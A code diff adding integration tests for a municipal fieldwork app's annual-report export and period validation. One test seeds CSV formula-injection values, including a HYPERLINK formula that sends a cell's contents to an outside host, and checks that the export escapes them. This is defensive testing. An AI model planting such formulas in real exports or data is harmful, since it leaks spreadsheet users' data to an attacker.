@@ -20,6 +20,8 @@ import org.springframework.http.HttpStatus;
 import org.springframework.jdbc.core.JdbcTemplate;
 import org.springframework.test.web.servlet.assertj.MockMvcTester;
 
+import no.feltlogg.catalog.Catalog;
+import no.feltlogg.catalog.CodeKind;
 import no.feltlogg.shared.CurrentUser;
 import no.feltlogg.shared.Role;
 import no.feltlogg.support.IntegrationTest;
@@ -37,6 +39,9 @@ class AnnualReportTest {
 
 	@Autowired
 	JdbcTemplate jdbc;
+
+	@Autowired
+	Catalog catalog;
 
 	TestStaff.Municipality municipality;
 
@@ -200,6 +205,41 @@ class AnnualReportTest {
 	}
 
 	@Test
+	void cellsASpreadsheetWouldRunAsAFormulaAreExportedAsText() throws Exception {
+		var area = catalog.active(municipality.teamA, CodeKind.AREA).getFirst();
+		var names = List.of("=HYPERLINK(\"https://example.org/?\"&A1,\"Torget\")", "+47 Plassen", "-1+1", "@SUM(A1)",
+				"\tFanen", "\rLinja");
+		for (var name : names) {
+			var place = catalog.ensure(municipality.teamA, CodeKind.PLACE, name, area.id());
+			// the code lists trim a name; an older row, or a form that does not, can still begin with a tab
+			jdbc.update("update code_item set label = ? where id = ?", name, place.id());
+			assertThat(mvc.post()
+				.uri("/fieldwork/encounters/new")
+				.param("date", "2025-04-01")
+				.param("time", "20:00")
+				.param("arena", "street")
+				.param("areaId", area.id().toString())
+				.param("placeId", place.id().toString())
+				.param("counts[GIRL:12-15]", "6")
+				.with(user(worker))
+				.with(csrf())).hasRedirectedUrl("/");
+		}
+		var result = mvc.get().uri("/statistics/annual/export.csv?kind=year&year=2025&published=false")
+			.with(user(leader))
+			.exchange();
+		var csv = new String(result.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8).substring(1);
+		var cells = new java.util.ArrayList<String>();
+		try (var parser = org.apache.commons.csv.CSVParser.parse(csv, org.apache.commons.csv.CSVFormat.DEFAULT)) {
+			parser.forEach(record -> record.forEach(cells::add));
+		}
+		assertThat(cells).contains("'=HYPERLINK(\"https://example.org/?\"&A1,\"Torget\")", "'+47 Plassen", "'-1+1",
+				"'@SUM(A1)", "'\tFanen", "'\rLinja");
+		assertThat(cells).as("no cell a spreadsheet reads as a formula")
+			.noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
+					&& !cell.matches("-\\d+"));
+	}
+
+	@Test
 	void onlyTheLeaderOpensTheReportAndOnlyForHerTeam() {
 		for (var role : List.of(Role.WORKER, Role.SLT, Role.ADMIN)) {
 			var other = municipality.user(municipality.account(role));
@@ -219,6 +259,47 @@ class AnnualReportTest {
 		var page = page(leader, "/statistics/annual?kind=custom&year=2025&from=2025-05-01&to=2025-04-01");
 		assertThat(page.select("[role=alert]").text()).contains("Perioden kunne ikke leses");
 		assertThat(mvc.get().uri("/statistics/annual?kind=month&year=99999&number=13").with(user(leader))).hasStatusOk();
+	}
+
+	@Test
+	void aPeriodOfMoreThanTenYearsIsRefusedWithAMessageOnThePageAndNoFile() {
+		var tenYears = page(leader, "/statistics/annual?kind=custom&year=2025&from=2015-01-01&to=2024-12-31");
+		assertThat(tenYears.select("[role=alert]")).isEmpty();
+
+		for (var query : List.of("kind=custom&year=2025&from=2014-01-01&to=2024-12-31",
+				"kind=custom&year=2025&from=0001-01-01&to=9999-12-31")) {
+			var page = page(leader, "/statistics/annual?" + query);
+			assertThat(page.select("[role=alert]").text()).contains("En rapport kan dekke høyst ti år");
+			assertThat(page.select("input[name=year]").val()).isEqualTo("2025");
+			for (var format : List.of("pdf", "xlsx", "csv")) {
+				assertThat(mvc.get().uri("/statistics/annual/export." + format + "?" + query).with(user(leader)))
+					.hasStatus(HttpStatus.FOUND)
+					.hasRedirectedUrl("/statistics/annual?" + query);
+			}
+		}
+	}
+
+	@Test
+	void aCommentForAPeriodThatCannotBeReportedIsNotStoredOnAnotherPeriod() {
+		var posted = mvc.post()
+			.uri("/statistics/annual/comments?kind=custom&year=2025&from=0001-01-01&to=9999-12-31")
+			.param("section", "foreword")
+			.param("text", "Forord til et år ingen ba om")
+			.with(user(leader))
+			.with(csrf())
+			.exchange();
+		assertThat(posted).hasStatus(HttpStatus.FOUND);
+		assertThat(posted.getMvcResult().getFlashMap().get("error")).isEqualTo("report.period.tooLong");
+		assertThat(jdbc.queryForObject("select count(*) from report_comment where team_id = ?", Integer.class,
+				municipality.teamA)).isZero();
+	}
+
+	@Test
+	void aYearOutsideTheYears1900To2100IsNotReported() {
+		var page = page(leader, "/statistics/annual?kind=year&year=1");
+		assertThat(page.select("[role=alert]").text()).contains("Perioden kunne ikke leses");
+		assertThat(mvc.get().uri("/statistics/annual/export.csv?kind=year&year=1").with(user(leader)))
+			.hasStatus(HttpStatus.FOUND);
 	}
 
 	private Document page(CurrentUser who, String url) {
